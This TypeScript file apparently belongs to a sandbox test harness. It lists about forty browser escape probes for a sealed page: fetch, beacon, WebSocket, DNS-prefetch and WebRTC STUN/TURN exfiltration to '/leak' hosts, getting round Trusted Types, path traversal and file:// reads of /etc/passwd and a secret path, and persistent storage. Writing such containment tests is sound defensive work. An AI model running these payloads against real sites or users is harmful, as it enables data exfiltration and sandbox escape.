import type { Target } from './attack.ts';
import { leakZone } from './name-server.ts';

export interface PageAttack {
  readonly name: string;
  /** An expression that is a promise; run in the sealed page, as if an attacker had left both WASM and its worker. */
  readonly script: string;
  /** What the walls around a page cannot stop alone: it rests on what is taken out of the page. */
  readonly needsStrippedPage?: boolean;
}

/** Every way out of a page that we know, tried with the page's own rights and with a fresh frame's globals. */
export function pageAttacks({ hosts, tcpPort, udpPort, secretPath }: Target): readonly PageAttack[] {
  const origins = JSON.stringify(hosts.map((host) => `http://${host}:${tcpPort}`));
  const peers = JSON.stringify(
    hosts.flatMap((host) => [`stun:${host}:${udpPort}`, `stun:${host}:${tcpPort}?transport=tcp`]),
  );
  const turns = JSON.stringify(hosts.map((host) => `turn:${host}:${tcpPort}?transport=tcp`));
  /** The globals were stripped: a frame's are new. */
  const fresh = `const frame = document.createElement('iframe'); document.body.append(frame); const fresh = frame.contentWindow ?? globalThis;`;
  const forAll = (body: string) => `(async () => { ${fresh}
    const seen = [];
    for (const origin of ${origins}) { try { ${body} } catch (error) { seen.push(String(error)); } }
    await new Promise((resolve) => setTimeout(resolve, 150));
    return seen.join('; '); })()`;
  const element = (tag: string, attribute: string) =>
    forAll(
      `const node = document.createElement('${tag}'); node.${attribute} = origin + '/leak'; document.body.append(node); node.click?.();`,
    );
  return [
    {
      name: 'fetch',
      script: forAll(`seen.push(await (await fresh.fetch(origin + '/leak', { mode: 'no-cors' })).text());`),
    },
    {
      name: 'fetch keepalive',
      script: forAll(
        `await fresh.fetch(origin + '/leak', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'leak' });`,
      ),
    },
    {
      name: 'XMLHttpRequest',
      script: forAll(
        `const request = new fresh.XMLHttpRequest(); request.open('GET', origin + '/leak', false); request.send();`,
      ),
    },
    { name: 'beacon', script: forAll(`seen.push(fresh.navigator.sendBeacon(origin + '/leak', 'leak'));`) },
    { name: 'WebSocket', script: forAll(`new fresh.WebSocket(origin.replace('http', 'ws') + '/leak');`) },
    { name: 'EventSource', script: forAll(`new fresh.EventSource(origin + '/leak');`) },
    { name: 'WebTransport', script: forAll(`new fresh.WebTransport(origin.replace('http', 'https') + '/leak');`) },
    { name: 'image', script: forAll(`const image = new fresh.Image(); image.src = origin + '/leak';`) },
    { name: 'script element', script: element('script', 'src') },
    {
      name: 'style sheet',
      script: forAll(
        `const link = document.createElement('link'); link.rel = 'stylesheet'; link.href = origin + '/leak'; document.head.append(link);`,
      ),
    },
    {
      name: 'prefetch, preconnect, DNS prefetch, prerender',
      script: forAll(
        `for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'prerender', 'preload', 'modulepreload', 'icon', 'manifest']) { const link = document.createElement('link'); link.rel = rel; link.as = 'image'; link.href = origin + '/leak'; document.head.append(link); }`,
      ),
    },
    {
      name: 'names looked up',
      script: `(async () => { ${fresh}
        const name = () => Math.random().toString(36).slice(2) + '.${leakZone}';
        for (const rel of ['dns-prefetch', 'preconnect', 'prefetch']) { const link = document.createElement('link'); link.rel = rel; link.href = '//' + name(); document.head.append(link); }
        const link = document.createElement('a'); link.href = 'http://' + name(); link.textContent = 'x'; document.body.append(link);
        const meta = document.createElement('meta'); meta.httpEquiv = 'x-dns-prefetch-control'; meta.content = 'on'; document.head.append(meta);
        try { await fresh.fetch('http://' + name(), { mode: 'no-cors' }); } catch {}
        await new Promise((resolve) => setTimeout(resolve, 500)); })()`,
    },
    {
      name: 'names looked up by WebRTC',
      needsStrippedPage: true,
      script: `(async () => { ${fresh}
        const name = () => Math.random().toString(36).slice(2) + '.${leakZone}';
        for (const urls of ['stun:' + name() + ':3478', 'turn:' + name() + ':3478', 'turn:' + name() + ':443?transport=tcp']) { try { const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls, username: 'leak', credential: 'x' }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); } catch {} }
        await new Promise((resolve) => setTimeout(resolve, 2000)); })()`,
    },
    {
      name: 'CSS and fonts',
      script: forAll(
        `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { background: url(' + origin + '/leak) } @font-face { font-family: f; src: url(' + origin + '/font) } body { font-family: f }'); document.adoptedStyleSheets = [sheet]; document.body.append('text');`,
      ),
    },
    { name: 'frame', script: element('iframe', 'src') },
    {
      name: 'srcdoc frame',
      script: forAll(
        `const frame = document.createElement('iframe'); frame.setAttribute('srcdoc', '<img src=' + origin + '/leak>'); document.body.append(frame);`,
      ),
    },
    {
      name: 'object and embed',
      script: forAll(
        `for (const [tag, name] of [['object', 'data'], ['embed', 'src'], ['video', 'src'], ['audio', 'src']]) { const node = document.createElement(tag); node[name] = origin + '/leak'; document.body.append(node); }`,
      ),
    },
    {
      name: 'form',
      script: forAll(
        `const form = document.createElement('form'); form.action = origin + '/leak'; form.method = 'post'; document.body.append(form); form.submit();`,
      ),
    },
    { name: 'location', script: forAll(`location.href = origin + '/leak';`) },
    {
      name: 'meta refresh',
      script: forAll(
        `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + origin + '/leak'; document.head.append(meta);`,
      ),
    },
    { name: 'window.open', script: forAll(`(fresh.open ?? globalThis.open)(origin + '/leak');`) },
    {
      name: 'link with a click and a ping',
      script: forAll(
        `const link = document.createElement('a'); link.href = origin + '/leak'; link.ping = origin + '/ping'; link.target = '_blank'; document.body.append(link); link.click();`,
      ),
    },
    {
      name: 'download',
      script: forAll(
        `const link = document.createElement('a'); link.href = origin + '/leak'; link.download = 'x'; document.body.append(link); link.click();`,
      ),
    },
    {
      name: 'speculation rules',
      script: forAll(
        `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = '{"prefetch":[{"source":"list","urls":["' + origin + '/leak"]}]}'; document.head.append(rules);`,
      ),
    },
    {
      name: 'markup of every kind',
      script: forAll(
        `for (const [tag, name] of [['img', 'srcset'], ['video', 'poster'], ['input', 'src'], ['track', 'src'], ['source', 'src'], ['image', 'href'], ['body', 'background'], ['table', 'background'], ['portal', 'src'], ['fencedframe', 'src'], ['webview', 'src'], ['frame', 'src'], ['applet', 'archive'], ['base', 'href'], ['bgsound', 'src']]) { const node = document.createElement(tag); if (tag === 'input') node.type = 'image'; node.setAttribute(name, origin + '/leak'); document.body.append(node); } const svg = document.createElementNS('http://www.w3.org/2000/svg', 'image'); svg.setAttribute('href', origin + '/leak'); document.body.append(svg);`,
      ),
    },
    {
      name: 'markup as text',
      script: forAll(
        `for (const act of [() => { document.body.innerHTML = '<img src=' + origin + '/leak>'; }, () => document.write('<img src=' + origin + '/leak>'), () => fresh.document.write('<img src=' + origin + '/leak>'), () => document.body.insertAdjacentHTML('beforeend', '<iframe src=' + origin + '>'), () => document.body.append(new DOMParser().parseFromString('<img src=' + origin + '/leak>', 'text/html').body)]) { try { act(); } catch (error) { seen.push(error.name); } }`,
      ),
    },
    {
      name: 'a policy that reports',
      script: forAll(
        `const meta = document.createElement('meta'); meta.httpEquiv = 'Content-Security-Policy'; meta.content = "img-src 'none'; report-uri " + origin + '/leak; report-to leak'; document.head.append(meta); new fresh.Image().src = 'data:,'; fresh.reportError?.(new Error('leak'));`,
      ),
    },
    { name: 'fetchLater', script: forAll(`fresh.fetchLater(origin + '/leak', { activateAfter: 0 });`) },
    {
      name: 'other programs',
      script: `(async () => { ${fresh} for (const url of ['mailto:leak@localhost', 'ssh://localhost', 'tel:1', 'vscode://x', 'smb://localhost/x', 'ms-settings:x', 'intent://x']) { for (const act of [() => { location.href = url; }, () => fresh.open(url), () => { const frame = document.createElement('iframe'); frame.src = url; document.body.append(frame); }]) { try { act(); } catch {} } } await new Promise((resolve) => setTimeout(resolve, 200)); })()`,
    },
    {
      name: 'nested and shared workers',
      script: `(async () => { ${fresh} const seen = []; for (const act of [() => new fresh.Worker('/kernel-worker.js'), () => new fresh.SharedWorker('/kernel-worker.js'), () => new fresh.SharedWorker('data:text/javascript,1'), () => new fresh.AudioContext().audioWorklet.addModule('/kernel-worker.js'), () => fresh.CSS.paintWorklet.addModule('/kernel-worker.js')]) { try { await act(); seen.push('made'); } catch (error) { seen.push(error.name); } } return seen.join(); })()`,
    },
    {
      name: 'Trusted Types got round',
      script: forAll(
        `for (const act of [() => globalThis.trustedTypes.createPolicy('kernel', { createScriptURL: (url) => url }), () => fresh.trustedTypes.createPolicy('x', { createHTML: (x) => x }), () => new fresh.Function('return 1')(), () => fresh.eval('1'), () => setTimeout("fetch('" + origin + "')"), () => { const node = document.createElement('script'); node.text = "fetch('" + origin + "')"; document.body.append(node); }]) { try { seen.push(String(act())); } catch (error) { seen.push(error.name); } }`,
      ),
    },
    {
      name: 'STUN',
      script: `(async () => { ${fresh} const made = []; for (const urls of ${peers}) { try { const peer = new fresh.RTCPeerConnection({ iceServers: [{ urls }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); made.push(peer); } catch (error) { made.push(String(error)); } } await new Promise((resolve) => setTimeout(resolve, 2500)); return made.length; })()`,
    },
    {
      name: 'TURN',
      needsStrippedPage: true,
      script: `(async () => { ${fresh} for (const urls of ${turns}) { try { const peer = new fresh.RTCPeerConnection({ iceTransportPolicy: 'relay', iceServers: [{ urls, username: 'leak', credential: 'x' }] }); peer.createDataChannel('leak'); await peer.setLocalDescription(await peer.createOffer()); } catch {} } await new Promise((resolve) => setTimeout(resolve, 2500)); })()`,
    },
    {
      name: 'service worker',
      script: `(async () => { ${fresh} return String(await fresh.navigator.serviceWorker?.register('/kernel-worker.js').catch(String)); })()`,
    },
    {
      name: 'worker from a blob',
      script: forAll(`new fresh.Worker(URL.createObjectURL(new Blob(["fetch('" + origin + "/leak')"])));`),
    },
    {
      name: 'worker from data',
      script: forAll(`new fresh.Worker("data:text/javascript,fetch('" + origin + "/leak')");`),
    },
    { name: 'import()', script: forAll(`await fresh.eval("import('" + origin + "/leak.js')");`) },
    {
      name: 'own scheme, other names',
      script: `(async () => { ${fresh} const seen = []; for (const path of ['/../../etc/passwd', '/%2e%2e/%2e%2e/etc/passwd', '//etc/passwd', ${JSON.stringify(secretPath)}, '/guest/cloister/_turn.py', '/index.html']) { try { seen.push(await (await fresh.fetch(path)).text()); } catch (error) { seen.push(String(error)); } } return seen.join('; '); })()`,
    },
    {
      name: 'file scheme',
      script: `(async () => { ${fresh} const seen = []; for (const url of ['file://${secretPath}', 'file:///etc/passwd', 'chrome://version', 'devtools://devtools/x', 'cloister://app/']) { try { seen.push(await (await fresh.fetch(url)).text()); } catch (error) { seen.push(String(error)); } } return seen.join('; '); })()`,
    },
    {
      name: 'Node and Electron',
      script: `(async () => [typeof require, typeof process, typeof module, typeof globalThis.electron, typeof Buffer].join())()`,
    },
    {
      name: 'permissions',
      script: `(async () => { ${fresh} const seen = []; for (const name of ['camera', 'microphone', 'geolocation', 'notifications', 'clipboard-read']) seen.push((await fresh.navigator.permissions.query({ name }).catch(() => ({ state: 'none' }))).state); try { await fresh.navigator.clipboard.readText(); seen.push('clipboard read'); } catch {} if (seen.includes('granted')) throw new Error('granted'); return seen.join(); })()`,
    },
    {
      name: 'storage that stays',
      script: `(async () => { ${fresh} try { fresh.localStorage.setItem('leak', 'x'); } catch {} try { const root = await fresh.navigator.storage.getDirectory(); await root.getFileHandle('leak', { create: true }); } catch {} try { fresh.indexedDB.open('leak'); } catch {} try { await fresh.caches.open('leak'); } catch {} try { new fresh.BroadcastChannel('leak').postMessage('leak'); } catch {} try { await fresh.cookieStore.set('leak', 'x'); } catch {} try { document.cookie = 'leak=x'; } catch {} })()`,
    },
  ];
}

/** Run in a new page: what of \`storage that stays\` is still there. */
export const residue = `(async () => { const frame = document.createElement('iframe'); document.body.append(frame); const fresh = frame.contentWindow; const left = [];
  try { for (const { name } of await fresh.indexedDB.databases()) left.push('IndexedDB ' + name); } catch {}
  try { for (const name of await fresh.caches.keys()) left.push('cache ' + name); } catch {}
  try { for await (const [name] of await fresh.navigator.storage.getDirectory()) left.push('OPFS ' + name); } catch {}
  try { if (fresh.localStorage.length > 0) left.push('localStorage'); } catch {}
  try { if (document.cookie !== '') left.push('cookie'); } catch {}
  try { for (const worker of await fresh.navigator.serviceWorker.getRegistrations()) left.push('service worker ' + worker.scope); } catch {}
  return left; })()`;
